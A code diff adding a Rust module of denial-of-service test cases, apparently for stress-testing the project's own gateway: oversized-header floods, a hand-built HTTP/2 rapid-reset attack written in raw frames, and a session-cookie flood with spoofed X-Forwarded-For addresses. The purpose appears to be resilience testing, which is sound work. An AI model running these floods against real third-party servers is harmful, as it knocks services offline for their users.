@@ -1,0 +1,203 @@
+//! Floods that cost the sender little: headers, streams that are reset, cookies of nobody.
+
+use std::time::Duration;
+
+use anyhow::Result;
+use reqwest::Client;
+use reqwest::header::{COOKIE, HeaderMap, HeaderName, HeaderValue};
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::task::JoinSet;
+use tokio::time::{Instant, sleep, sleep_until};
+
+use super::beside::{self, Target, stranger};
+use super::slow_bodies::connect;
+use super::{CaseResult, Stage};
+
+/// Connections of a flood.
+const CONNECTIONS: usize = 32;
+/// Cookies a second.
+const COOKIES: u32 = 2000;
+/// Addresses that they come from.
+const ADDRESSES: usize = 200;
+/// Streams that are opened and reset with one write.
+const BATCH: u32 = 100;
+/// The pause before a connection is opened again.
+const PAUSE: Duration = Duration::from_millis(100);
+
+/// Requests with as many headers as are read at all, and with more.
+pub async fn headers(stage: &mut Stage) -> Result<CaseResult> {
+    let connections = stage.or_short(CONNECTIONS, 4);
+    beside::run(stage, move |target| async move {
+        let mut tasks = JoinSet::new();
+        for number in 0..connections {
+            let own = target.clone();
+            tasks.spawn(async move { http1_headers(&own, number).await });
+            let own = target.clone();
+            tasks.spawn(async move {
+                while !own.is_over() {
+                    if http2_headers(&own, number).await.is_err() {
+                        own.met("HTTP/2 connection closed");
+                        sleep(PAUSE).await;
+                    }
+                }
+                Ok(())
+            });
+        }
+        tasks.join_all().await.into_iter().collect()
+    })
+    .await
+}
+
+/// So many headers of a kilobyte each.
+fn kilobytes(count: usize) -> HeaderMap {
+    let value = HeaderValue::from_str(&"x".repeat(1000)).expect("a header");
+    let headers = (0..count).map(|number| {
+        let name = format!("x-flood-{number}").parse::<HeaderName>();
+        (name.expect("a name"), value.clone())
+    });
+    headers.collect()
+}
+
+async fn http1_headers(target: &Target, number: usize) -> Result<()> {
+    let client = Client::builder().no_proxy().build()?;
+    let url = format!("{}/api/plans", target.origin(number));
+    for kilobyte in [15, 30, 60].into_iter().cycle() {
+        if target.is_over() {
+            break;
+        }
+        let call = client.get(&url).headers(kilobytes(kilobyte));
+        match call
+            .header("x-forwarded-for", stranger(number))
+            .send()
+            .await
+        {
+            Ok(answer) => target.met(format!("{} for {kilobyte} kB", answer.status())),
+            Err(_) => target.met(format!("connection closed for {kilobyte} kB")),
+        }
+    }
+    Ok(())
+}
+
+async fn http2_headers(target: &Target, number: usize) -> Result<()> {
+    let client = connect(target, number, 65_535).await?;
+    while !target.is_over() {
+        let mut client = client.clone().ready().await?;
+        let mut request = http::Request::get(format!("{}/api/plans", target.origin(number)));
+        if let Some(headers) = request.headers_mut() {
+            headers.extend(kilobytes(30));
+        }
+        let (answer, _) = client.send_request(request.body(())?, true)?;
+        target.met(format!("{} over HTTP/2", answer.await?.status()));
+    }
+    Ok(())
+}
+
+/// Streams of HTTP/2 that are reset as soon as they are opened.
+pub async fn resets(stage: &mut Stage) -> Result<CaseResult> {
+    let connections = stage.or_short(CONNECTIONS, 2);
+    beside::run(stage, move |target| async move {
+        let mut tasks = JoinSet::new();
+        for number in 0..connections {
+            let own = target.clone();
+            tasks.spawn(async move {
+                while !own.is_over() {
+                    let batches = rapid_resets(&own, number).await;
+                    let most = batches.unwrap_or_default().next_power_of_two();
+                    own.met(format!("connection closed after {most} batches at most"));
+                    sleep(PAUSE).await;
+                }
+            });
+        }
+        tasks.join_all().await;
+        Ok(())
+    })
+    .await
+}
+
+/// A frame of HTTP/2.
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let [_, length @ ..] = u32::try_from(payload.len())
+        .unwrap_or_default()
+        .to_be_bytes();
+    let stream = stream.to_be_bytes();
+    [&length[..], &[kind, flags], &stream, payload].concat()
+}
+
+/// Opens and resets streams until the gateway closes; how many batches that took.
+async fn rapid_resets(target: &Target, number: usize) -> Result<u32> {
+    const SETTINGS: u8 = 4;
+    const HEADERS: u8 = 1;
+    const RESET: u8 = 3;
+    const CANCEL: u32 = 8;
+    // END_STREAM and END_HEADERS.
+    const WHOLE: u8 = 5;
+    let path = b"/api/equipment";
+    // GET, http, a path and an authority that are not indexed.
+    let mut request = vec![0x82, 0x86, 0x04, u8::try_from(path.len())?];
+    request.extend_from_slice(path);
+    request.extend_from_slice(&[0x01, 9]);
+    request.extend_from_slice(b"localhost");
+    let mut socket = target.connect(number).await?;
+    socket
+        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
+        .await?;
+    socket.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
+    socket.write_all(&frame(SETTINGS, 1, 0, &[])).await?;
+    let (mut read, mut write) = socket.into_split();
+    let reading = tokio::spawn(async move {
+        let mut answer = vec![0; 1 << 16];
+        while matches!(read.read(&mut answer).await, Ok(1..)) {}
+    });
+    let mut batches = 0;
+    while !target.is_over() && !reading.is_finished() {
+        let mut bytes = Vec::new();
+        for place in 0..BATCH {
+            let stream = 2 * (batches * BATCH + place) + 1;
+            bytes.extend(frame(HEADERS, WHOLE, stream, &request));
+            bytes.extend(frame(RESET, 0, stream, &CANCEL.to_be_bytes()));
+        }
+        if write.write_all(&bytes).await.is_err() {
+            break;
+        }
+        batches += 1;
+    }
+    reading.abort();
+    Ok(batches)
+}
+
+/// Requests with session cookies that nobody has.
+pub async fn cookies(stage: &mut Stage) -> Result<CaseResult> {
+    let per_second = stage.or_short(COOKIES, 50);
+    let mut rng = stage.rng.fork();
+    beside::run(stage, move |target| async move {
+        let client = Client::builder()
+            .no_proxy()
+            .timeout(Duration::from_secs(10))
+            .build()?;
+        let (begun, mut tasks) = (Instant::now(), JoinSet::new());
+        for number in 0_u32.. {
+            let due = begun + Duration::from_secs(1) / per_second * number;
+            if due >= target.end {
+                break;
+            }
+            sleep_until(due).await;
+            while tasks.try_join_next().is_some() {}
+            let token: String = (0..43).map(|_| rng.alphanumeric()).collect();
+            let place = usize::try_from(number)?;
+            let call = client
+                .get(format!("{}/api/auth/user", target.origin(place)))
+                .header("x-forwarded-for", stranger(place % ADDRESSES))
+                .header(COOKIE, format!("sid={token}"));
+            let target = target.clone();
+            tasks.spawn(async move {
+                match call.send().await {
+                    Ok(answer) => target.met(answer.status().as_str()),
+                    Err(_) => target.met("no answer"),
+                }
+            });
+        }
+        tasks.join_all().await;
+        Ok(())
+    })
+    .await
+}
